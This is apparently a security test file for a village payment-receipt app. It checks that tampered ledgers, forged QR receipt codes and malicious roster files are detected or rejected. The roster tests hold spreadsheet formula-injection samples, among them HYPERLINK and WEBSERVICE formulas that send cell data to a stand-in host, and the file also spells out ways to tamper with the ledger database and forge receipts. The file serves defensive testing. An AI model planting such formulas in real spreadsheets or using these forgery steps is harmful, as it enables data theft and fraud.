"""Threats of docs/SECURITY.md that had no test of their own: receipts removed or renumbered
behind the app's back, a forged paper receipt read from its printed QR code, and roster files
written to attack the importer."""

from __future__ import annotations

import hashlib
import shutil
import sqlite3
import subprocess
from collections.abc import Iterator
from dataclasses import replace
from datetime import date
from pathlib import Path

import pytest
from openpyxl import Workbook
from sqlalchemy import func, select

from app import ledger
from app.audit import verify_books
from app.collection import receipt_view
from app.dayclose import close_day, preview
from app.identity import check_character
from app.keys import DeviceKey, sign
from app.receipt_codes import CodeError, decode, encode, verify_code
from app.receipt_numbers import format_receipt_no, parse_receipt_no
from app.roster.reader import RosterFileError
from app.workspace import Workspace, open_workspace
from db.models import Device, LedgerEvent, Person
from printing.receipt_pdf import render_pdf
from tests.sync.helpers import pay_household

TODAY = date(2023, 10, 15)


def behind_the_apps_back(workspace: Workspace, *statements: str) -> None:
    """Change the file as someone holding it (and its key) could: with plain SQL."""
    path = workspace.db.path
    assert path is not None
    workspace.db.engine.dispose()
    raw = sqlite3.connect(path)
    try:
        for statement in statements:
            raw.execute(statement)
        raw.commit()
    finally:
        raw.close()


def three_receipts(workspace: Workspace) -> list[str]:
    return [pay_household(workspace, index)[0] for index in range(3)]


# Deleting or renumbering receipts.


def test_an_event_removed_from_the_middle_of_the_ledger_is_named(
    demo_workspace: Workspace,
) -> None:
    three_receipts(demo_workspace)
    behind_the_apps_back(
        demo_workspace,
        "DROP TRIGGER ledger_event_no_delete",
        "DELETE FROM ledger_event WHERE seq = 2",
    )
    with demo_workspace.db.sessions() as session:
        report = verify_books(session)
    assert not report.valid and report.first_bad == 3
    assert "序号不连续" in report.problem


def test_a_renumbered_receipt_is_named(demo_workspace: Workspace) -> None:
    receipts = three_receipts(demo_workspace)
    prefix, _ = parse_receipt_no(receipts[1])
    behind_the_apps_back(
        demo_workspace,
        "DROP TRIGGER payment_no_update",
        f"UPDATE payment SET receipt_no = '{format_receipt_no(prefix, 9)}' WHERE seq = 2",
    )
    with demo_workspace.db.sessions() as session:
        report = verify_books(session)
    assert not report.valid and report.first_bad == 2
    assert "receipt_no 与签名记录不符" in report.problem


def test_a_receipt_removed_from_the_middle_is_a_gap_the_day_close_reports(
    demo_workspace: Workspace,
) -> None:
    receipts = three_receipts(demo_workspace)
    behind_the_apps_back(
        demo_workspace,
        "DROP TRIGGER payment_line_no_delete",
        "DROP TRIGGER payment_no_delete",
        "DELETE FROM payment_line WHERE payment_id = (SELECT id FROM payment WHERE seq = 2)",
        "DELETE FROM payment WHERE seq = 2",
    )
    seen = preview(demo_workspace.db)
    assert seen.gaps == (receipts[1],)
    assert seen.receipts == (receipts[0], receipts[2])
    close_day(
        demo_workspace.db, counted_fen=seen.expected_cash_fen, reference="YH1",
        today=demo_workspace.today,
    )  # fmt: skip
    # The gap is in the signed remittance the county receives.
    with demo_workspace.db.sessions() as session:
        event = session.scalars(select(LedgerEvent).where(LedgerEvent.kind == "remittance")).one()
    assert ledger.body_of(event)["gaps"] == [receipts[1]]


# A forged paper receipt.


def scan_qr(pdf: bytes, folder: Path) -> str:
    """The QR code of a printed receipt, read from the page with zbar, as a phone would."""
    for tool in ("pdftoppm", "zbarimg"):
        if shutil.which(tool) is None:
            pytest.fail(f"{tool} is missing: make sysdeps installs poppler-utils and zbar-tools")
    (folder / "receipt.pdf").write_bytes(pdf)
    subprocess.run(
        ["pdftoppm", "-r", "200", "-png", "-singlefile", str(folder / "receipt.pdf"),
         str(folder / "receipt")],
        check=True,
    )  # fmt: skip
    done = subprocess.run(
        ["zbarimg", "--quiet", "--raw", "-Sdisable", "-Sqrcode.enable",
         str(folder / "receipt.png")],
        capture_output=True, text=True, check=True,
    )  # fmt: skip
    return done.stdout.rstrip("\n")


def test_a_printed_receipts_code_verifies_and_forged_ones_do_not(
    demo_workspace: Workspace, tmp_path: Path
) -> None:
    receipt_no, _ = pay_household(demo_workspace)
    with demo_workspace.db.sessions() as session:
        view = receipt_view(session, receipt_no)
        keys = {d.id: d.public_key for d in session.scalars(select(Device))}
    scanned = scan_qr(render_pdf(view, "80"), tmp_path)
    code = verify_code(scanned, keys)
    assert (code.receipt_no, code.total_fen) == (receipt_no, view.total_fen)
    assert [p[0] for p in code.persons] == [line.name for line in view.lines]

    genuine, _payload, signature = decode(scanned)
    # A higher total under the genuine signature.
    raised = encode(replace(genuine, total_fen=genuine.total_fen * 10), signature)
    # Another person's name on a genuine receipt.
    first = genuine.persons[0]
    renamed = encode(replace(genuine, persons=(("王冒名", *first[1:]), *genuine.persons[1:])),
                     signature)  # fmt: skip
    # A receipt of the forger's own, signed with a key of their own in this device's name.
    forger = DeviceKey(genuine.device_id, "FAKE", hashlib.sha256(b"forger").digest())
    made_up = replace(genuine, receipt_no=format_receipt_no(parse_receipt_no(receipt_no)[0], 99))
    own_key = encode(made_up, sign(forger, made_up.payload()))
    for forged in (raised, renamed, own_key):
        with pytest.raises(CodeError, match="签名不符"):
            verify_code(forged, keys)
    # A verifier that does not hold the issuing device's key cannot vouch for it.
    with pytest.raises(CodeError, match="不认识开具设备"):
        verify_code(scanned, {})
    with pytest.raises(CodeError, match="不是本系统"):
        verify_code("https://example.com/receipt?no=1", keys)


# A malicious roster file.


@pytest.fixture
def empty_workspace(tmp_path: Path) -> Iterator[Workspace]:
    workspace = open_workspace(tmp_path / "roster.db", today=TODAY, create=True)
    yield workspace
    workspace.close()


VILLAGE = "430923101201"
HEADER = "户号,姓名,证件号码,村(社区)"


def an_id(serial: int) -> str:
    body = f"430923197001{serial:02d}{serial:03d}"[:17]
    return body + check_character(body)


def people(workspace: Workspace) -> int:
    with workspace.db.sessions() as session:
        return int(session.scalar(select(func.count()).select_from(Person)) or 0)


def test_names_that_a_spreadsheet_would_run_as_formulas_are_rejected(
    empty_workspace: Workspace, tmp_path: Path
) -> None:
    names = ['=HYPERLINK("http://x.example/"&A1,"点此")', "+SUM(A1:A9)", "@SUM(1)", "张=三",
             "-2+3"]  # fmt: skip
    rows = [HEADER, f"H1,张三,{an_id(1)},{VILLAGE}"]
    rows += [f'H{n + 2},"{name.replace(chr(34), chr(34) * 2)}",{an_id(n + 2)},{VILLAGE}'
             for n, name in enumerate(names)]  # fmt: skip
    path = tmp_path / "formulas.csv"
    path.write_text("\n".join(rows) + "\n", encoding="utf-8")
    report = empty_workspace.import_roster(path)
    assert report.imported == 1
    assert sorted(r.row for r in report.rejected) == list(range(3, 3 + len(names)))
    assert all("不允许的字符" in r.reason for r in report.rejected)
    assert people(empty_workspace) == 1


def test_formula_cells_in_an_xlsx_are_never_evaluated_or_stored(
    empty_workspace: Workspace, tmp_path: Path
) -> None:
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(HEADER.split(","))
    sheet.append(["H1", "张三", an_id(1), VILLAGE])
    sheet.append(["H2", '="李"&"四"', an_id(2), VILLAGE])  # a formula with no cached value
    sheet.append(["H3", '=WEBSERVICE("http://x.example/")', an_id(3), VILLAGE])
    path = tmp_path / "formulas.xlsx"
    book.save(path)
    report = empty_workspace.import_roster(path)
    assert report.imported == 1
    assert [(r.row, r.reason) for r in report.rejected] == [(3, "姓名不能为空"),
                                                            (4, "姓名不能为空")]  # fmt: skip
    with empty_workspace.db.sessions() as session:
        assert session.scalars(select(Person.name)).all() == ["张三"]


def test_an_oversized_cell_stops_the_file_with_a_message(
    empty_workspace: Workspace, tmp_path: Path
) -> None:
    path = tmp_path / "huge-cell.csv"
    path.write_text(
        f"{HEADER}\nH1,张三,{an_id(1)},{VILLAGE}\nH2,李四,{an_id(2)},{'村' * 200_000}\n",
        encoding="utf-8",
    )
    with pytest.raises(RosterFileError, match="CSV 格式错误"):
        empty_workspace.import_roster(path)
